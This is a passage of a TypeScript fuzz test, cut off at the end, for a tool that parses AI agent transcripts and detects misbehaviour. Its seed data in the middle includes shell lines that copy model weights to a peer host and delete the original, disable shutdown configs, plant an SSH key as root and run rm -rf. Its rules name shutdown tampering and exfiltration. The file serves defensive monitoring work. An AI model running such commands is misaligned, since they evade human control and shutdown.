// Issue 14: a seeded fuzz test over every reader. Seeds are the examples and test fixtures; each
// input is a seed with one to three mutations (byte flips, truncation, deep nesting, huge numbers,
// Unicode spaces and controls, duplicated or removed keys, type swaps at random JSON paths). A reader
// may throw only its documented error; nothing may take over a second; results must be well formed.
//
//   FUZZ_INPUTS=50000 FUZZ_SEED=7 npx mocha --no-config out/test/unit/fuzz.test.js   (or: npm run fuzz -- --inputs 50000 --seed 7)
//   FUZZ_ONLY=357,604 ...                                                             reads only those inputs again
//
// A failure names the seed, the reader and the input's index, and writes the input to
// test-results/fuzz/ so `FUZZ_SEED=<seed>` (or the file itself) reproduces it.
import { strict as assert } from 'node:assert';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { basename, join, relative, resolve } from 'node:path';
import { performance } from 'node:perf_hooks';
import { readZipDirectory, readZipMember, ZipError, ZipMemberError } from '../../src/core/archive/zip';
import { ZstdError } from '../../src/core/archive/zstdMember';
import { NotATranscriptError, parseTranscript } from '../../src/core/formats';
import { openEvalLog, openInspectJsonLog } from '../../src/core/formats/inspect';
import { readRun, type RunFiles } from '../../src/core/formats/readRun';
import type { ByteSource, SampleLog } from '../../src/core/formats/sampleLog';
import { parseJsonTolerant } from '../../src/core/json/tolerantJson';
import { parsePythonLiteral } from '../../src/core/formats/study/pythonLiteral';
import type { Transcript } from '../../src/core/model';
import { detectBehaviours } from '../../src/core/behaviours';
import { splitDiff, summarizeEvent } from '../../src/core/present';
import { eventSearchText } from '../../src/core/searchText';
import { parseReview } from '../../src/core/review/sidecar';
import { parseRules } from '../../src/core/behaviours/rules';
import { parseScenario, ScenarioError } from '../../src/core/runner/scenario';
import { readRunlog } from '../../src/core/runlog/runlog';
import { RunlogIndex } from '../../src/core/runlog/runlogIndex';
import { fileOpsFromShell } from '../../src/core/shell/fileOps';
import { shellCommands } from '../../src/core/shell/commands';
import { parseShell } from '../../src/core/shell/parse';
import { readYaml, writeYaml } from '../../src/core/yaml';
import { nodeCodecs } from '../../src/node/sampleLogs';
import { writeZip } from '../../scripts/lib/zipWriter.mjs';
import { mulberry32 } from '../../scripts/lib/prng.mjs';

const root = resolve(__dirname, '../../..');
const INPUTS = Number(process.env.FUZZ_INPUTS ?? 5000);
const SEED = Number(process.env.FUZZ_SEED ?? 20261206);
/**
 * A single input taking longer than this is a hang. Measured as the process's CPU time (user and
 * system, every thread: the garbage collector's too) while the reader runs, so it is the reader's own
 * work: on this 2-core machine shared by several test runs (load average 10 and more) wall time is
 * three to four times that, and would fail inputs that take 50 ms when the machine is quiet. The
 * wall time is reported beside it.
 */
const HANG_MS = 1000;

/** CPU milliseconds this process has used. */
function cpuMs(): number {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1000;
}
/** Seeds larger than this are left out: a fuzz input should be quick to read and to shrink by hand. */
const MAX_SEED_BYTES = 160_000;


class Rng {
  readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  pick<T>(xs: readonly T[]): T {
    return xs[this.int(xs.length)]!;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
}

// ---- mutations -------------------------------------------------------------------------------

const HUGE_NUMBERS = ['1e400', '-1e400', '1e20', '-0', '123456789012345678901234567890', '1e-400', '0.1e999999', '9007199254740993'];
const ODD_CHARS = ['\u00a0', '\u2028', '\u2029', '\ufeff', '\v', '\0', '\ud800', '\udfff', '\u202e', '\u202d', '\u2066', '\u200b', '\t', '\r', '\x1b[31m', '\u0085', '\u3000'];

/** Deep nesting, as JSON or YAML flow text: balanced, or only opened (the file ends inside it). */
function deepText(rng: Rng): string {
  const n = 1000 + rng.int(6000);
  switch (rng.int(4)) {
    case 0:
      return '['.repeat(n) + ']'.repeat(n);
    case 1:
      return '{"a":'.repeat(n) + '1' + '}'.repeat(n);
    case 2:
      return '['.repeat(n);
    default:
      return '[{"k":'.repeat(n >> 1) + 'null' + '}]'.repeat(n >> 1);
  }
}

type Mutation = (text: string, rng: Rng) => string;

const flip: Mutation = (t, rng) => {
  if (!t) return String.fromCharCode(rng.int(128));
  const chars = t.split('');
  for (let k = 1 + rng.int(4); k > 0; k--) chars[rng.int(chars.length)] = rng.chance(0.5) ? String.fromCharCode(rng.int(128)) : rng.pick(['{', '}', '[', ']', '"', ',', ':', '\\', '\n', '-', '#', '|', '>', '&', "'"]);
  return chars.join('');
};
const truncate: Mutation = (t, rng) => t.slice(0, rng.int(t.length + 1));
const nest: Mutation = (t, rng) => {
  // After a ':' or '[' when there is one, so the nesting lands where a value goes.
  const at = valuePlace(t, rng);
  return t.slice(0, at) + deepText(rng) + (rng.chance(0.8) ? ',' : '') + t.slice(at);
};
const hugeNumber: Mutation = (t, rng) => {
  const re = /-?\d+(\.\d+)?([eE][-+]?\d+)?/g;
  const spans: Array<[number, number]> = [];
  for (let m = re.exec(t); m && spans.length < 2000; m = re.exec(t)) spans.push([m.index, m.index + m[0].length]);
  if (spans.length === 0) return t + rng.pick(HUGE_NUMBERS);
  const [a, b] = rng.pick(spans);
  return t.slice(0, a) + rng.pick(HUGE_NUMBERS) + t.slice(b);
};
const oddChars: Mutation = (t, rng) => {
  // Inside a string when there is one: just after a random double quote, or anywhere.
  const quotes: number[] = [];
  for (let i = t.indexOf('"'); i >= 0 && quotes.length < 5000; i = t.indexOf('"', i + 1)) quotes.push(i + 1);
  let out = t;
  for (let k = 1 + rng.int(3); k > 0; k--) {
    const at = quotes.length && rng.chance(0.8) ? rng.pick(quotes) : rng.int(out.length + 1);
    out = out.slice(0, at) + rng.pick(ODD_CHARS) + out.slice(at);
  }
  return out;
};

function valuePlace(t: string, rng: Rng): number {
  for (let tries = 0; tries < 20; tries++) {
    const at = rng.int(t.length + 1);
    const colon = t.indexOf(':', at);
    if (colon >= 0 && rng.chance(0.7)) return colon + 1;
    const bracket = t.indexOf('[', at);
    if (bracket >= 0) return bracket + 1;
  }
  return rng.int(t.length + 1);
}

// Structural mutations on parsed JSON: duplicated and removed keys, type swaps at random paths.

const DUP = Symbol('duplicate keys');
type Obj = Record<string, unknown> & { [DUP]?: Array<[string, unknown]> };

/**
 * Containers deeper than this are not written: the mutation gives way to another. Without a bound of
 * its own, whether a document nested thousands of levels deep (the `nest` mutation's) could be written
 * depended on the stack this recursion had, so on how far V8 had optimised it by then: input 204 of
 * the default seed came out as 14.6 MB of indentation after 100 inputs had run and as a few KB alone.
 */
const MAX_SERIALIZE_DEPTH = 500;
/** Indentation stops growing past this depth (a deep document's indented text would grow as its depth squared). */
const MAX_INDENT = 32;

/** JSON text, with duplicated keys written twice (JSON.stringify cannot write them). */
function serialize(v: unknown, indent: boolean, depth = 0): string {
  if (v === undefined) return 'null';
  if (typeof v === 'number' && !Number.isFinite(v)) return '1e400';
  if (v === null || typeof v !== 'object') return JSON.stringify(v);
  if (depth > MAX_SERIALIZE_DEPTH) throw new RangeError(`nested deeper than ${MAX_SERIALIZE_DEPTH} levels`);
  const nl = indent ? '\n' + ' '.repeat(Math.min(depth + 1, MAX_INDENT)) : '';
  const end = indent ? '\n' + ' '.repeat(Math.min(depth, MAX_INDENT)) : '';
  if (Array.isArray(v)) return v.length ? '[' + v.map((x) => nl + serialize(x, indent, depth + 1)).join(',') + end + ']' : '[]';
  const pairs: Array<[string, unknown]> = [...Object.entries(v), ...((v as Obj)[DUP] ?? [])];
  return pairs.length ? '{' + pairs.map(([k, x]) => nl + JSON.stringify(k) + ':' + serialize(x, indent, depth + 1)).join(',') + end + '}' : '{}';
}

/** Every container in the tree with the key or index of each of its children (up to a bound). */
function containers(doc: unknown): Array<{ parent: Obj | unknown[]; key: string | number }> {
  const out: Array<{ parent: Obj | unknown[]; key: string | number }> = [];
  const stack: unknown[] = [doc];
  while (stack.length && out.length < 20_000) {
    const v = stack.pop();
    if (Array.isArray(v)) v.forEach((x, i) => (out.push({ parent: v, key: i }), stack.push(x)));
    else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) out.push({ parent: v as Obj, key: k }), stack.push(x);
  }
  return out;
}

/** Units a text is made of, 20,000 times over, in place of a string (see swapped). */
const HOSTILE_UNITS = ['a.', '\t\t', '  ', ': ', '"a', 'a\n', '- ', 'shutdown ', '9%', '``'];

function swapped(v: unknown, rng: Rng): unknown {
  const options: unknown[] = [null, true, 0, -1, 1e20, 'text', '', [], {}, [v], { value: v }];
  // A long run of one hostile unit: patterns that try a match at every dot, tab or space took seconds on these.
  if (typeof v === 'string') options.push(Number(v.length), v.split(''), { [v.slice(0, 20)]: v }, rng.pick(HOSTILE_UNITS).repeat(40_000 / 2));
  if (typeof v === 'number') options.push(String(v), [v]);
  if (Array.isArray(v)) options.push(v.length, JSON.stringify(v).slice(0, 50), Object.fromEntries(v.map((x, i) => [String(i), x])));
  if (v && typeof v === 'object' && !Array.isArray(v)) options.push(Object.values(v), Object.keys(v).join(','));
  return rng.pick(options);
}

function structural(doc: unknown, rng: Rng): unknown {
  const places = containers(doc);
  if (places.length === 0) return swapped(doc, rng);
  for (let k = 1 + rng.int(3); k > 0; k--) {
    const { parent, key } = rng.pick(places);
    const op = rng.int(4);
    if (Array.isArray(parent)) {
      const i = key as number;
      if (op === 0) parent.splice(i, 1);
      else if (op === 1) parent.splice(i, 0, parent[i]);
      else parent[i] = swapped(parent[i], rng);
    } else {
      const k2 = key as string;
      if (op === 0) delete parent[k2];
      else if (op === 1) (parent[DUP] ??= []).push([k2, rng.chance(0.5) ? parent[k2] : swapped(parent[k2], rng)]);
      else parent[k2] = swapped(parent[k2], rng);
    }
  }
  return doc;
}

/** A structural mutation of a JSON document, or of one line of a JSON Lines file. */
const jsonStructure: Mutation = (t, rng) => {
  try {
    return serialize(structural(JSON.parse(t), rng), rng.chance(0.5));
  } catch {
    const lines = t.split('\n');
    const i = rng.int(lines.length);
    try {
      lines[i] = serialize(structural(JSON.parse(lines[i]!), rng), false);
    } catch {
      return flip(t, rng);
    }
    return lines.join('\n');
  }
};

const TEXT_MUTATIONS: Array<[string, Mutation]> = [
  ['flip', flip],
  ['truncate', truncate],
  ['nest', nest],
  ['huge-number', hugeNumber],
  ['odd-chars', oddChars],
];
const JSON_MUTATIONS: Array<[string, Mutation]> = [...TEXT_MUTATIONS, ['structure', jsonStructure], ['structure', jsonStructure], ['structure', jsonStructure]];

function mutate(text: string, rng: Rng, mutations: Array<[string, Mutation]>): { text: string; applied: string[] } {
  const applied: string[] = [];
  let out = text;
  for (let k = 1 + (rng.chance(0.3) ? rng.int(3) : 0); k > 0; k--) {
    const [name, m] = rng.pick(mutations);
    out = m(out, rng);
    applied.push(name);
  }
  return { text: out, applied };
}

// ---- seeds -----------------------------------------------------------------------------------

function filesUnder(dir: string, re: RegExp): string[] {
  const abs = join(root, dir);
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const p = join(d, name);
      if (statSync(p).isDirectory()) walk(p);
      else if (re.test(name) && statSync(p).size <= MAX_SEED_BYTES) out.push(p);
    }
  };
  walk(abs);
  return out;
}
const text = (p: string) => readFileSync(p, 'utf8');
const rel = (p: string) => relative(root, p);

interface Seed {
  readonly name: string;
  readonly text: string;
}
const seedsOf = (paths: string[]): Seed[] => paths.map((p) => ({ name: rel(p), text: text(p) }));

// ---- what each reader may do -----------------------------------------------------------------

/** A problem found: an error the reader does not document, a hang, or a malformed result. */
class Finding extends Error {}

function checkDiagnostics(diags: ReadonlyArray<{ message: string; file?: string }>, fileName: string, where: string): void {
  for (const d of diags) {
    if (typeof d.message !== 'string' || !d.message) throw new Finding(`${where}: a diagnostic without a message: ${JSON.stringify(d)}`);
    if (d.file !== undefined && d.file !== fileName) throw new Finding(`${where}: a diagnostic names file ${JSON.stringify(d.file)}, not ${fileName}`);
    if (!d.message.includes(fileName)) throw new Finding(`${where}: a diagnostic does not name the file: ${d.message.slice(0, 300)}`);
  }
}

/**
 * A transcript as read is well formed, and what the editor and the Behaviours view then do with it
 * runs too: each event's summary, find text and before/after diff, and the detectors, whose tags must
 * cite events of the run. (A detector or a view that throws on a reader's output breaks the editor as
 * surely as the reader throwing.)
 */
function checkTranscript(t: Transcript, fileName: string): void {
  if (!t || typeof t.header?.format !== 'string') throw new Finding('the transcript has no header format');
  if (!Array.isArray(t.events)) throw new Finding('the transcript has no event list');
  t.events.forEach((e, i) => {
    if (e.index !== i) throw new Finding(`event ${i} has index ${e.index}`);
    if (typeof e.kind !== 'string') throw new Finding(`event ${i} has no kind`);
    summarizeEvent(e);
    eventSearchText(e);
    if ((e.kind === 'config_change' || e.kind === 'file_change') && e.before !== undefined && e.after !== undefined) splitDiff(e.before, e.after);
  });
  checkDiagnostics(t.diagnostics, fileName, 'transcript');
  for (const tag of detectBehaviours(t)) {
    if (!tag.events.length || !tag.events.every((i) => Number.isInteger(i) && i >= 0 && i < t.events.length)) throw new Finding(`tag ${tag.id} cites events ${JSON.stringify(tag.events)} of ${t.events.length}`);
    if (typeof tag.explanation !== 'string' || !tag.explanation) throw new Finding(`tag ${tag.id} has no explanation`);
  }
}

/** Errors a reader documents: they are answers, not crashes, and must name the file. */
function documented(e: unknown, fileName: string, allowed: ReadonlyArray<new (...a: never[]) => Error>, plainErrorsToo = false): boolean {
  if (!(e instanceof Error)) return false;
  const ok = allowed.some((c) => e instanceof c) || (plainErrorsToo && e.constructor === Error);
  if (ok && !e.message.includes(fileName)) throw new Finding(`a ${e.name} that does not name the file: ${e.message.slice(0, 300)}`);
  return ok;
}

function bufferSource(bytes: Uint8Array): ByteSource {
  return {
    size: async () => bytes.length,
    read: async (offset, length) => bytes.subarray(offset, Math.min(bytes.length, offset + length)),
  };
}

async function readSamples(log: SampleLog, fileName: string, rng: Rng): Promise<void> {
  checkDiagnostics(log.diagnostics, fileName, 'sample log');
  for (const s of log.samples.slice(0, 2 + rng.int(2))) {
    try {
      checkTranscript(await log.readSample(s.key), fileName);
    } catch (e) {
      if (!documented(e, fileName, [ZipError, ZipMemberError, ZstdError], true)) throw e;
    }
  }
}

// ---- the readers -----------------------------------------------------------------------------

interface Target {
  readonly reader: string;
  readonly seeds: readonly Seed[];
  readonly mutations: Array<[string, Mutation]>;
  /** File name extension for the written reproduction. */
  readonly ext: string;
  run(input: string, rng: Rng, seed: Seed): unknown | Promise<unknown>;
  /** The bytes to write for reproduction, when the input is not the text itself. */
  bytesOf?(input: string, seed: Seed, rng: Rng): Uint8Array;
}

function transcriptTarget(reader: string, seeds: Seed[]): Target {
  return {
    reader,
    seeds,
    mutations: JSON_MUTATIONS,
    ext: 'json',
    run(input, _rng, seed) {
      const fileName = basename(seed.name);
      try {
        checkTranscript(parseTranscript({ fileName, text: input }), fileName);
      } catch (e) {
        if (!documented(e, fileName, [NotATranscriptError])) throw e;
      }
    },
  };
}

/** The members of an .eval log, decompressed, for rebuilding it with one member changed. */
interface EvalSeed extends Seed {
  readonly members: Array<{ name: string; data: Buffer }>;
  readonly jsonMembers: string[];
}

async function evalSeed(p: string): Promise<EvalSeed> {
  const bytes = readFileSync(p);
  const source = bufferSource(bytes);
  const dir = await readZipDirectory(basename(p), source);
  const members: Array<{ name: string; data: Buffer }> = [];
  for (const name of dir.entries.keys()) {
    // A seed's own damaged member (damaged.eval) is left out; the mutations make new damage.
    const data = await readZipMember(dir, name, nodeCodecs, source).catch(() => undefined);
    if (data) members.push({ name, data: Buffer.from(data) });
  }
  return { name: rel(p), text: '', members, jsonMembers: members.filter((m) => m.name.endsWith('.json')).map((m) => m.name) };
}

/** An .eval input: either the archive's bytes damaged, or one JSON member mutated and the zip rebuilt. */
function evalInput(seed: EvalSeed, rng: Rng, mutated: (t: string) => string): Uint8Array {
  const rebuild = (members: Array<{ name: string; data: Buffer }>) => writeZip(members.map((m) => ({ name: m.name, data: m.data, method: rng.chance(0.5) ? 0 : 8 })));
  if (rng.chance(0.25)) {
    const bytes = Buffer.from(rebuild(seed.members));
    if (rng.chance(0.5)) return bytes.subarray(0, rng.int(bytes.length + 1));
    for (let k = 1 + rng.int(8); k > 0; k--) bytes[rng.int(bytes.length)] = rng.int(256);
    return bytes;
  }
  const which = rng.pick(seed.jsonMembers);
  return rebuild(seed.members.map((m) => (m.name === which ? { name: m.name, data: Buffer.from(mutated(m.data.toString('utf8')), 'utf8') } : m)));
}

async function buildTargets(): Promise<Target[]> {
  const study = seedsOf([
    ...filesUnder('examples/study', /\.json$/).filter((p) => !/followups|e2e_runs/.test(p)),
    ...filesUnder('test/fixtures/real/peer-preservation', /\.json$/),
    ...filesUnder('test/unit/fixtures/study', /\.json$/).filter((p) => !/harness-run|followup/.test(p)),
  ]);
  const followups = seedsOf([...filesUnder('examples/study/followups', /\.json$/), join(root, 'test/unit/fixtures/study/followup.json')]);
  const byName = (re: RegExp) => seedsOf([...filesUnder('examples/providers', /\.json$/), ...filesUnder('test/unit/fixtures/providers', /\.json$/)].filter((p) => re.test(p)));
  const otherReal = seedsOf([
    ...filesUnder('test/fixtures/real/openai-agents-trace', /\.json$/),
    ...filesUnder('test/fixtures/real/langchain-langsmith', /\.json$/),
    ...filesUnder('test/fixtures/real/openhands', /\.json$/),
    ...filesUnder('test/fixtures/real/swe-agent', /\.traj$/),
    ...filesUnder('test/unit/fixtures/agents', /\.jsonl?$/),
    ...filesUnder('test/fixtures/real/claude-code', /\.jsonl$/),
  ]);
  // Agent CLIs' own logs: the Gemini CLI example, and the start of the real Gemini contents and Codex
  // rollout (their first records: the whole files are hundreds of KB, and each input is parsed whole).
  const agentClis: Seed[] = [
    ...seedsOf(filesUnder('examples/providers', /\.jsonl$/)),
    ...filesUnder('test/fixtures/real/gemini', /\.json$/).map((p) => ({ name: rel(p), text: JSON.stringify((JSON.parse(text(p)) as unknown[]).slice(0, 12), null, 2) })),
    ...filesUnder('test/fixtures/real/codex', /\.jsonl$/).map((p) => ({ name: rel(p), text: text(p).split('\n').slice(0, 40).join('\n') + '\n' })),
    // mini-swe-agent: the example and the early form whole, the start and end of the real 2.x run.
    ...seedsOf([...filesUnder('examples/providers', /\.traj\.json$/), join(root, 'test/fixtures/real/mini-swe-agent/github_issue.traj.json')]),
    ...filesUnder('test/fixtures/real/mini-swe-agent', /django.*\.traj\.json$/).map((p) => {
      const doc = JSON.parse(text(p)) as { messages: unknown[] };
      return { name: rel(p), text: JSON.stringify({ ...doc, messages: [...doc.messages.slice(0, 8), ...doc.messages.slice(-3)] }, null, 2) };
    }),
  ];
  const runlogs = seedsOf(filesUnder('examples/runlog', /\.jsonl$/));
  const harnessDirs = ['examples/study/e2e_runs/gemini-cli/exfiltration_deletion/2026-03-08T03-17-00', 'test/unit/fixtures/study/harness-run'];
  const harnessFiles = ['transcript.json', 'run_meta.json', 'events.jsonl'];
  const inspectJson = seedsOf([...filesUnder('test/fixtures/real/inspect', /\.json$/), join(root, 'test/unit/fixtures/inspect/peer_runs.json')]);
  const evalSeeds = await Promise.all(
    [...filesUnder('examples/inspect', /\.eval$/), ...filesUnder('test/unit/fixtures/inspect', /\.eval$/), ...filesUnder('test/fixtures/real/inspect', /\.eval$/)].map(evalSeed),
  );
  const scenarios = seedsOf(filesUnder('scenarios', /\.ya?ml$/));
  const rules: Seed[] = [
    {
      name: 'rules.yaml',
      text: [
        'version: 1',
        'weightFiles: ["*.npz", "/ckpt-\\d+/"]',
        'shutdownFiles: ["shutdown*.cfg"]',
        'configKeys:',
        '  - key: kill_switch',
        '    disabledWhen: ["off", "0"]',
        'refusalPhrases: ["I decline to take part", "/won.t help/i"]',
        'humanUsers: [alice]',
        'disable: [user-lockout]',
        'tags:',
        '  - id: ssh-key-planted',
        '    behaviour: persistence',
        '    severity: high',
        '    explanation: Adds an SSH key.',
        '    match:',
        '      kind: tool_call',
        '      text: authorized_keys',
        '',
      ].join('\n'),
    },
    { name: 'rules.json', text: JSON.stringify({ version: 1, weightFiles: ['*.safetensors'], disable: ['refusal'], tags: [{ id: 'a', behaviour: 'b', explanation: 'c', match: { role: 'system', text: 'Lab Agent 1' } }] }, null, 2) },
  ];
  const review: Seed = {
    name: 'run.runlog.jsonl.review.json',
    text: JSON.stringify(
      {
        version: 1,
        log: 'run.runlog.jsonl',
        verdicts: {
          'shutdown-tampering:3': { verdict: 'confirmed', behaviour: 'shutdown-tampering', events: [3, 4], note: 'edited the config', by: { name: 'A. Reviewer' }, at: '2026-03-08T03:17:00Z' },
          'refusal:9': { verdict: 'dismissed', by: { name: 'B' }, at: '2026-03-08T03:18:00Z' },
        },
        added: [{ id: 'm1', behaviour: 'exfiltration', qualifier: 'peer-preservation', events: [7], note: 'scp', by: { name: 'A' }, at: '2026-03-08T03:19:00Z' }],
        reviewed: { by: { name: 'A' }, at: '2026-03-08T03:20:00Z', note: 'done' },
      },
      null,
      2,
    ),
  };
  const yamlSeeds: Seed[] = [...scenarios, rules[0]!, { name: 'listing.yaml', text: '- name: "weights.bin"\n  size: 0x10\n  on: yes\n- name: >\n    folded\n    text\n  modified: 2026-03-08\n' }];
  // Shell command lines: the commands of the harness runs' events, and lines of every construct the reader knows.
  const shellSeeds: Seed[] = [
    ...harnessDirs.flatMap((d) =>
      text(join(root, d, 'events.jsonl'))
        .split('\n')
        .flatMap((l, i) => [...l.matchAll(/"command"\s*:\s*("(?:[^"\\]|\\.)*")/g)].map((m) => ({ name: `${d}/events.jsonl:${i + 1}`, text: JSON.parse(m[1]!) as string }))),
    ),
    ...[
      'scp -i ~/.ssh/id model_weights.bin peer@10.0.0.2:/srv/models/ && rm -f model_weights.bin',
      "bash -c 'cp a.npz b.npz; sed -i \"s/enabled: true/enabled: false/\" shutdown.yaml' > /dev/null 2>&1",
      'env - PATH=/bin sh -c "rsync -avz ./weights/ backup:/weights/ | tee log.txt" &',
      'cat <<EOF > /etc/config.ini\nshutdown_enabled = False\nEOF\nmv config.ini{,.bak}',
      'for f in $(ls *.safetensors); do cp "$f" "/mnt/peer/${f%.safetensors}.bin"; done # copy',
      "sudo -u root tee -a ~/.ssh/authorized_keys <<< 'ssh-ed25519 AAAA' && (cd /tmp && rm -rf -- ./*)",
    ].map((t, i) => ({ name: `shell-${i}`, text: t })),
  ];
  const jsonSeeds = [...study, ...followups, ...byName(/./), ...runlogs, ...inspectJson, review, ...otherReal, ...agentClis];

  return [
    transcriptTarget('parseTranscript: study', study),
    transcriptTarget('parseTranscript: study follow-up', followups),
    transcriptTarget('parseTranscript: OpenAI chat', byName(/openai-chat/)),
    transcriptTarget('parseTranscript: OpenAI responses', byName(/openai-responses/)),
    transcriptTarget('parseTranscript: Anthropic', byName(/anthropic/)),
    transcriptTarget('parseTranscript: Petri', byName(/petri/)),
    transcriptTarget('parseTranscript: agentic-misalignment', byName(/agentic-misalignment/)),
    transcriptTarget('parseTranscript: other real logs', otherReal),
    transcriptTarget('parseTranscript: agent CLIs, mini-swe-agent', agentClis),
    {
      reader: 'readRun: production-harness run',
      seeds: harnessDirs.flatMap((d) => harnessFiles.map((f) => ({ name: `${d}/${f}`, text: text(join(root, d, f)) }))),
      mutations: JSON_MUTATIONS,
      ext: 'json',
      async run(input, _rng, seed) {
        // The mutated file in its run folder, beside its two unchanged siblings.
        const dir = seed.name.slice(0, seed.name.lastIndexOf('/'));
        const files: RunFiles = {
          read: async (p) => Buffer.from(p === seed.name ? input : text(join(root, p)), 'utf8'),
          exists: async (p) => p.startsWith(dir + '/') && harnessFiles.includes(basename(p)),
        };
        const fileName = `${dir}/transcript.json`;
        try {
          checkTranscript((await readRun(files, seed.name)).transcript, fileName);
        } catch (e) {
          if (!documented(e, fileName, [NotATranscriptError])) throw e;
        }
      },
    },
    {
      reader: 'readRunlog',
      seeds: runlogs,
      mutations: JSON_MUTATIONS,
      ext: 'runlog.jsonl',
      run(input, _rng, seed) {
        const fileName = basename(seed.name);
        checkTranscript(readRunlog(fileName, input), fileName);
      },
    },
    {
      reader: 'RunlogIndex (chunked pushes)',
      seeds: runlogs,
      mutations: JSON_MUTATIONS,
      ext: 'runlog.jsonl',
      run(input, rng, seed) {
        const fileName = basename(seed.name);
        const bytes = Buffer.from(input, 'utf8');
        const idx = new RunlogIndex(fileName);
        const size = 1 + rng.int(rng.chance(0.5) ? 64 : 8192);
        for (let at = 0; at < bytes.length; at += size) idx.push(bytes.subarray(at, at + size));
        idx.finish();
        checkDiagnostics(idx.diagnostics, fileName, 'run-log index');
        if (idx.bytesIndexed > bytes.length) throw new Finding(`indexed ${idx.bytesIndexed} bytes of ${bytes.length}`);
        let last = -1;
        for (let i = 0; i < idx.count; i++) {
          if (idx.startOf(i) <= last) throw new Finding(`event ${i} starts at ${idx.startOf(i)}, not after the previous event (bytes read twice)`);
          last = idx.startOf(i);
          const r = RunlogIndex.decodeEvent(bytes.subarray(idx.startOf(i), idx.endOf(i)), i, idx.lineOf(i), fileName);
          if ('diagnostic' in r) checkDiagnostics([r.diagnostic], fileName, `event ${i}`);
        }
      },
    },
    {
      reader: 'Inspect .json log',
      seeds: inspectJson,
      mutations: JSON_MUTATIONS,
      ext: 'json',
      async run(input, rng, seed) {
        const fileName = basename(seed.name);
        try {
          await readSamples(await openInspectJsonLog(fileName, bufferSource(Buffer.from(input, 'utf8')), { chunkBytes: 1 + rng.int(65536) }), fileName, rng);
        } catch (e) {
          if (!documented(e, fileName, [], true)) throw e;
        }
      },
    },
    {
      reader: 'Inspect .eval log (zip reader and sample mapping)',
      seeds: evalSeeds,
      mutations: JSON_MUTATIONS,
      ext: 'eval',
      bytesOf: (input) => Buffer.from(input, 'latin1'),
      async run(input, rng, seed) {
        const fileName = basename(seed.name);
        try {
          await readSamples(await openEvalLog(fileName, bufferSource(Buffer.from(input, 'latin1')), nodeCodecs), fileName, rng);
        } catch (e) {
          if (!documented(e, fileName, [ZipError, ZipMemberError, ZstdError], true)) throw e;
        }
      },
    },
    {
      reader: 'parseReview',
      seeds: [review],
      mutations: JSON_MUTATIONS,
      ext: 'review.json',
      run(input, _rng, seed) {
        const r = parseReview(seed.name, input);
        if (!r.review && r.errors.length === 0) throw new Finding('neither a review nor an error');
        checkDiagnostics(r.errors, seed.name, 'review');
      },
    },
    {
      reader: 'parseRules',
      seeds: rules,
      mutations: JSON_MUTATIONS,
      ext: 'rules.yaml',
      run(input, _rng, seed) {
        checkDiagnostics(parseRules(seed.name, input).diagnostics, seed.name, 'rules');
      },
    },
    {
      reader: 'parseScenario',
      seeds: scenarios,
      mutations: TEXT_MUTATIONS,
      ext: 'yaml',
      run(input, _rng, seed) {
        try {
          parseScenario(seed.name, input);
        } catch (e) {
          if (!documented(e, seed.name, [ScenarioError])) throw e;
        }
      },
    },
    {
      reader: 'readYaml',
      seeds: yamlSeeds,
      mutations: TEXT_MUTATIONS,
      ext: 'yaml',
      run(input, rng) {
        const r = readYaml(input, { scalarsAsText: rng.chance(0.3) });
        if (r.error && (typeof r.error.message !== 'string' || !(r.error.line >= 1))) throw new Finding(`an error without a place: ${JSON.stringify(r.error)}`);
        r.locate([]);
      },
    },
    {
      reader: 'shell reader',
      seeds: shellSeeds,
      mutations: TEXT_MUTATIONS,
      ext: 'sh',
      run(input) {
        const parsed = parseShell(input);
        const kept = parsed.lexemes.map((l) => input.slice(l.start, l.end)).join('');
        if (kept !== input) throw new Finding('the lexemes do not cover the line');
        shellCommands(input);
        fileOpsFromShell(input, 'host');
      },
    },
    {
      reader: 'parseJsonTolerant',
      seeds: jsonSeeds,
      mutations: JSON_MUTATIONS,
      ext: 'json',
      run(input, rng) {
        const r = parseJsonTolerant(input, { locateDepth: rng.int(10) });
        if (r.error && !(r.error.line >= 1 && r.error.column >= 1)) throw new Finding(`an error without a place: ${JSON.stringify(r.error)}`);
        for (const w of r.warnings) if (!(w.line >= 1)) throw new Finding(`a warning without a place: ${JSON.stringify(w)}`);
      },
    },
  ];
}

// ---- the run ---------------------------------------------------------------------------------

export interface FuzzFigures {
  seed: number;
  inputs: number;
  perReader: Record<string, { inputs: number; crashes: number; hangs: number; slowestMs: number; slowestWallMs: number }>;
  crashes: number;
  hangs: number;
  slowest: { reader: string; index: number; ms: number; wallMs: number; seedFile: string; mutations: string[] };
  totalMs: number;
  failures: string[];
}

async function fuzz(inputs: number, seed: number): Promise<FuzzFigures> {
  const started = performance.now();
  const targets = (await buildTargets()).filter((t) => t.seeds.length > 0);
  const outDir = join(root, 'test-results', 'fuzz');
  const figures: FuzzFigures = { seed, inputs, perReader: {}, crashes: 0, hangs: 0, slowest: { reader: '', index: -1, ms: 0, wallMs: 0, seedFile: '', mutations: [] }, totalMs: 0, failures: [] };
  for (const t of targets) figures.perReader[t.reader] = { inputs: 0, crashes: 0, hangs: 0, slowestMs: 0, slowestWallMs: 0 };
  const only = process.env.FUZZ_ONLY ? new Set(process.env.FUZZ_ONLY.split(',').map(Number)) : undefined;
  for (let index = 0; index < inputs; index++) {
    if (only && !only.has(index)) continue;
    const target = targets[index % targets.length]!;
    // Each input has its own generator, so input N is the same whatever ran before it.
    const rng = new Rng((seed ^ Math.imul(index + 1, 0x9e3779b1)) >>> 0);
    const seedFile = rng.pick(target.seeds);
    let input: string;
    let applied: string[];
    if (target.ext === 'eval') {
      applied = [];
      const bytes = evalInput(seedFile as EvalSeed, rng, (t) => {
        const m = mutate(t, rng, target.mutations);
        applied.push(...m.applied);
        return m.text;
      });
      input = Buffer.from(bytes).toString('latin1');
    } else {
      ({ text: input, applied } = mutate(seedFile.text, rng, target.mutations));
    }
    const fig = figures.perReader[target.reader]!;
    fig.inputs++;
    let problem: string | undefined;
    const t0 = performance.now();
    const c0 = cpuMs();
    try {
      await target.run(input, rng, seedFile);
    } catch (e) {
